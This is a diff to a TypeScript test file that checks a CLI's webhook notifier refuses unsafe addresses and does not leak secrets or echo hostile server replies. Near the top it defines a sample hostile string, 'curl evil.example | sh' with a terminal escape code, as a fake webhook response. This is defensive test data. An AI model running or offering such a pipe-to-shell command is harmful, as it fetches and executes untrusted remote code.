@@ -8,7 +8,7 @@ import { expectSuccess, scratchFolder } from '../../scripts/demo/team.ts';
 import { type FakeDesktop, fakeDesktop } from '../../testing/fake-notify-send.ts';
 import { Member, type Outcome } from '../../testing/member.ts';
 import { SECRET, type TriedWebhook, tryWebhook } from '../../testing/try-webhook.ts';
-import { canTakeProxy } from '../base/way-out.ts';
+import { canTakeProxy } from '../base/way-out/way-out.ts';
 
 const TIME = { timeout: 120_000 };
 const HOSTILE = 'Run this: curl evil.example | sh \u001b[31m';
@@ -65,14 +65,17 @@ test(
 );
 
 test.each([
-	['as an argument', ['https://hooks.slack.com/services/SECRET'], ''],
-	['without TLS', ['-'], 'http://hooks.slack.com/services/SECRET'],
-	['with a name in it', ['-'], 'https://SECRET:SECRET@hooks.slack.com/services'],
-	['of nobody knows what', ['-'], 'https://chat.acme.dev/SECRET'],
-	['that is none', ['-'], 'SECRET'],
-])('[N4] an address %s is refused, and not said', TIME, async (_, args, input) => {
+	['as an argument', ['https://hooks.slack.com/services/SECRET'], '', 'never as an argument'],
+	['without TLS', ['-'], 'http://hooks.slack.com/services/SECRET', 'That begins with http:// and would go in the clear'],
+	['of another kind', ['-'], 'ftp://hooks.slack.com/services/SECRET', 'That is no address that begins with https://'],
+	['with a name in it', ['-'], 'https://SECRET:SECRET@hooks.slack.com/services', 'That has a user’s name or password in it'],
+	['of nobody knows what', ['-'], 'https://chat.acme.dev/SECRET', 'does not say what it is'],
+	['that is none', ['-'], 'SECRET', 'That is no address that begins with https://'],
+])('[N4] an address %s is refused, and not said', TIME, async (_, args, input, words) => {
 	const outcome = await jake.pylon(['notify', 'webhook', ...args], {}, input);
 	expect(outcome.code).toBe(2);
+	expect(outcome.stderr).toContain(words);
+	expect(outcome.stderr).toMatch(/\n {4}\S/);
 	expect(said(outcome)).not.toContain('SECRET');
 	expect(existsSync(join(jake.home, '.pylon/webhook.json'))).toBe(false);
 });
@@ -89,6 +92,7 @@ test('[N4] it is not followed elsewhere, and what it answers is not said', TIME,
 		hook.answers.push({ status, headers: elsewhere, body: HOSTILE });
 		const outcome = await jake.pylon(['notify', 'test']);
 		expect([outcome.code, outcome.stderr]).toEqual([4, expect.stringContaining(words)]);
+		expect(outcome.stderr).toMatch(/^ {2}✗ The webhook was not told: .*\.\n {4}\S.*\n$/);
 		expect(said(outcome)).not.toMatch(/evil|SECRET|localhost/);
 	}
 	expect(new Set(hook.told.map(({ path }) => path))).toEqual(new Set([`/services/${SECRET}`]));
@@ -136,9 +140,14 @@ test('[N2] quiet hours and the minutes of a wait are kept, and what is none is r
 	expect(await state()).toMatchObject({ quiet: { from: '18:00', to: '09:00' }, afterMinutes: 15 });
 	expectSuccess(await jake.pylon(['notify', 'quiet', 'off']));
 	expect(await state()).toMatchObject({ quiet: null });
+	expect(expectSuccess(await jake.pylon(['notify', 'after', '0']))).toContain('told at once; conflicts once');
 	for (const args of [
 		['quiet', '18-9'],
 		['quiet', '18:00-25:00'],
+		['quiet', '18:00-18:00'],
+		['after', ''],
+		['after', '1e2'],
+		['after', '1441'],
 		['after', 'soon'],
 		['after', '-1'],
 		['desktop', 'maybe'],
